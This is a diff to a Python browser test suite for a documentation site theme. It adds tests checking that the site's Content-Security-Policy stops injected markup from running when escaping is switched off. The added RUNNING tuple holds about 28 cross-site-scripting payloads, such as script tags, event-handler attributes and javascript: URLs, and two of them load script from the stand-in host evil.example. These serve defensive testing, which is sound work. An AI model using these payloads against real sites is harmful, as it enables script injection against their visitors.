@@ -29,8 +29,10 @@ from tests.browser import (
     Look,
     Site,
     Window,
+    keep_still,
     violations,
 )
+from tests.hostile import PAYLOADS
 
 pytestmark = pytest.mark.browser
 
@@ -56,7 +58,7 @@ def opened(request: pytest.FixtureRequest, sites: dict[str, Site], window: Windo
 
 def test_a_page_never_scrolls_sideways(opened: Window) -> None:
     # Menus slide to their new place when the window changes; where they are on the way does not count.
-    opened.page.add_style_tag(content="*, ::before, ::after { transition: none !important }")
+    keep_still(opened.page)
     # 640 px is also what a window of 1280 px has left at twice the size.
     for width in (NARROWEST, NARROW, WIDE // 2, WIDE):
         opened.page.set_viewport_size({"width": width, "height": 900})
@@ -112,7 +114,7 @@ def looks(opened: Window) -> Iterator[tuple[Look, dict[str, Any]]]:
 
 def test_a_page_can_be_used_by_all(opened: Window) -> None:
     # Colours on their way are nobody's colours.
-    opened.page.add_style_tag(content="*, ::before, ::after { transition: none !important }")
+    keep_still(opened.page)
     for (scheme, width), rules in looks(opened):
         opened.page.emulate_media(color_scheme=scheme)
         opened.page.set_viewport_size({"width": width, "height": 900})
@@ -207,15 +209,16 @@ TAKEN_OVER = """async pages => {
     }
     return found
 }"""
-# What the theme adds to every page alike.
-OF_THE_THEME = re.compile(r'<script src=[^>]*></script>|<link rel="?stylesheet[^>]*>')
+POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="[^"]*">')
+# What the theme adds to every page alike. Without the policy: escaping must do without that.
+OF_THE_THEME = re.compile(rf'<script src=[^>]*></script>|<link rel="?stylesheet[^>]*>|{POLICY.pattern}')
 
 
 def test_hostile_texts_run_on_no_page(sites: dict[str, Site], browser: Browser) -> None:
     site = sites["hostile"]
     pages = {path: OF_THE_THEME.sub("", (site.folder / path).read_text("utf-8")) for path in site.pages()}
     page = browser.new_page()
-    page.goto(site.url)
+    page.goto(f"{site.url}llms.txt")  # a page without a policy, which its frames would have too
     page.set_content("<!doctype html><title>Frames</title>")
     spoilt = "<script>window.PWNED = true</script>", "<img src=x onerror=window.PWNED=true>"
     assert page.evaluate(TAKEN_OVER, list(enumerate(spoilt))) == [0, 1]
@@ -223,9 +226,90 @@ def test_hostile_texts_run_on_no_page(sites: dict[str, Site], browser: Browser) 
     page.close()
 
 
+# Markup that runs wherever it comes into a page as it is, one way each; the hostile texts are tried, too.
+RUNNING = (
+    "<script>window.PWNED=true</script>",
+    "<script type=module>window.PWNED=true</script>",
+    "<script src=data:text/javascript,window.PWNED=true></script>",
+    "<script src=https://evil.example/x.js></script>",
+    "<img src=x onerror=window.PWNED=true>",
+    "<svg onload=window.PWNED=true></svg>",
+    "<svg><script>window.PWNED=true</script></svg>",
+    "<svg><animate onbegin=window.PWNED=true attributeName=x dur=1s></svg>",
+    "<body onload=window.PWNED=true>",
+    "<body onpageshow=window.PWNED=true>",
+    "<details open ontoggle=window.PWNED=true>",
+    "<input autofocus onfocus=window.PWNED=true>",
+    "<video><source onerror=window.PWNED=true></video>",
+    "<audio src=x onerror=window.PWNED=true></audio>",
+    "<iframe srcdoc='<script>parent.PWNED=true</script>'></iframe>",
+    "<iframe src='javascript:parent.PWNED=true'></iframe>",
+    "<object data='javascript:window.PWNED=true'></object>",
+    "<embed src='javascript:window.PWNED=true'>",
+    "<style onload=window.PWNED=true></style>",
+    "<link rel=stylesheet href=data:text/css, onload=window.PWNED=true>",
+    "<marquee onstart=window.PWNED=true>x</marquee>",
+    "<math><maction xlink:href=javascript:window.PWNED=true>x</maction></math>",
+    "<meta http-equiv=Content-Security-Policy content=script-src%20*><script>window.PWNED=true</script>",
+    "<base href=https://evil.example/><script src=x.js></script>",
+    "<a id=x href=javascript:window.PWNED=true>x</a><script>x.click()</script>",
+    "<form id=x action=javascript:window.PWNED=true></form><script>x.submit()</script>",
+    "<template><script>window.PWNED=true</script></template><img src=x onerror=window.PWNED=true>",
+    "<noscript><p title='</noscript><img src=x onerror=window.PWNED=true>'></noscript>",
+)
+
+
+def test_with_escaping_switched_off_the_policy_lets_no_payload_run(sites: dict[str, Site], browser: Browser) -> None:
+    """The second line of defence: each payload in a page with the policy of a page of ours, as it is."""
+    site = sites["tiny"]
+    found = POLICY.search((site.folder / "index.html").read_text("utf-8"))
+    assert found
+    payloads = [*RUNNING, *PAYLOADS]
+    assert len(payloads) >= 60
+    form = "<!doctype html><html><head>{}<title>x</title></head><body><main>{}</main></body></html>"
+    page = browser.new_page()
+    # A frame has the policy of the page that it stands in, so that there is none in that one.
+    page.goto(f"{site.url}llms.txt")
+    page.set_content("<!doctype html><title>Frames</title>")
+    without, with_policy = (
+        page.evaluate(TAKEN_OVER, [[str(n), form.format(meta, text)] for n, text in enumerate(payloads)])
+        for meta in ("", found[0])
+    )
+    assert len(without) >= 15
+    assert with_policy == []
+    page.close()
+
+
+def test_a_pages_policy_stops_nothing_of_ours(sites: dict[str, Site], browser: Browser) -> None:
+    """Each kind of page, and what a reader does there, without a word of the browser that it refused something."""
+    site = sites["tiny"]
+    context = browser.new_context(viewport={"width": WIDE, "height": 900})
+    page = context.new_page()
+    page.add_init_script(
+        "window.refused = []; document.addEventListener('securitypolicyviolation', "
+        "event => refused.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`))"
+    )
+    said: list[str] = []
+    page.on("console", lambda message: said.append(message.text) if "Content Security" in message.text else None)
+    kinds = [site.page(kind) for kind in KINDS]
+    embedded = sorted(site.folder.glob("charts/*/embed/index.html"))[0].parent.relative_to(site.folder).as_posix()
+    for address in (*kinds, f"{site.url}{embedded}/", f"{site.url}search/?q=hall"):
+        page.goto(address)
+        assert (page.evaluate("refused"), said) == ([], []), address
+        if "embed" not in address:
+            # The theme's first script ran, and its others.
+            assert page.evaluate("typeof __md_scope") == "object"
+            page.wait_for_function("document.documentElement.classList.contains('js')")
+    page.goto(site.page("home"))
+    page.locator("[data-md-component=palette] label").first.click()
+    page.wait_for_function("__md_get('__palette') !== null")
+    assert page.evaluate("refused") == []
+    context.close()
+
+
 def test_hostile_texts_run_in_no_script_of_the_theme_and_in_no_search(sites: dict[str, Site], browser: Browser) -> None:
     site = sites["hostile"]
-    context = browser.new_context(viewport={"width": WIDE, "height": 900})
+    context = browser.new_context(viewport={"width": WIDE, "height": 900}, bypass_csp=True)
     page = context.new_page()
     for kind in KINDS:
         page.goto(site.page(kind))
